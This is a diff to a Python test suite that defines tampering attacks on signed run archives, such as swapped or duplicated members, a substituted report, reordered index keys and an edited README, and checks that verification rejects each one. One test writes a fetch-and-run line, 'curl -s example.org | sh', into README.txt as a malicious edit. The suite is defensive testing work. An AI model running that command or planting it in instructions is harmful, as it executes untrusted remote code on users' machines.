@@ -53,7 +53,7 @@ def blobs_swapped(made):
 @attack("two members swap their places", "is no member that an archive has there")
 def members_swapped(made):
     members = made.members()
-    members[4], members[5] = members[5], members[4]
+    members[-1], members[-2] = members[-2], members[-1]
     return made.packed(members)
 
 
@@ -70,13 +70,32 @@ def member_added(made):
     data = b"a stranger"
     members = made.members()
     members.append((f"blobs/sha256/{hashlib.sha256(data).hexdigest()}", data))
-    return made.packed([*members[:2], *sorted(members[2:])])
+    return made.packed([*members[:5], *sorted(members[5:])])
+
+
+@attack("the README that comes first edited", "its README.txt is not what the run has under that name")
+def readme_edited(made):
+    members = made.members()
+    assert members[0][0] == "README.txt"
+    return made.packed([("README.txt", members[0][1].replace(b"VERDICT", b"verdict")), *members[1:]])
+
+
+@attack("the report that comes first is another run's", "its report.html is not what the run has under that name")
+def report_of_another_first(made):
+    members = made.members()
+    other = made.titles(made.other_archive)["report.html"]
+    return made.packed([members[0], ("report.html", other), *members[2:]])
+
+
+@attack("what comes first left out", "does not begin with the files that people read first")
+def named_members_left_out(made):
+    return made.packed(made.members()[3:])
 
 
 @attack("a member twice", "is no member that an archive has there")
 def member_twice(made):
     members = made.members()
-    return made.packed([*members[:3], members[2], *members[3:]])
+    return made.packed([*members, members[-1]])
 
 
 @attack("a member renamed", "is missing")
@@ -118,10 +137,10 @@ def compressed(made):
 
 @attack("`index.json` with its keys in another order", "index")
 def index_reordered(made):
-    members = made.members()
-    value = json.loads(members[1][1])
-    members[1] = (members[1][0], json.dumps(dict(reversed(value.items()))).encode())
-    return made.packed(members)
+    members = dict(made.members())
+    value = json.loads(members["index.json"])
+    members["index.json"] = json.dumps(dict(reversed(value.items()))).encode()
+    return made.packed(list(members.items()))
 
 
 # The file, without a key: put together anew, in perfect form, of other contents.
@@ -523,6 +542,15 @@ def report_edited(made):
     def edit(folder):
         path = folder / "report.html"
         path.write_text(path.read_text().replace("CERTIFIED", "GUARANTEED"))
+
+    return made.resigned(edit, derive=False)
+
+
+@attack("signed anew: the README edited", "README.txt is not what this harness renders")
+def readme_edited_and_signed(made):
+    def edit(folder):
+        text = (folder / "README.txt").read_text()
+        (folder / "README.txt").write_text(text.replace("harness verify", "curl -s example.org | sh; harness verify"))
 
     return made.resigned(edit, derive=False)
 
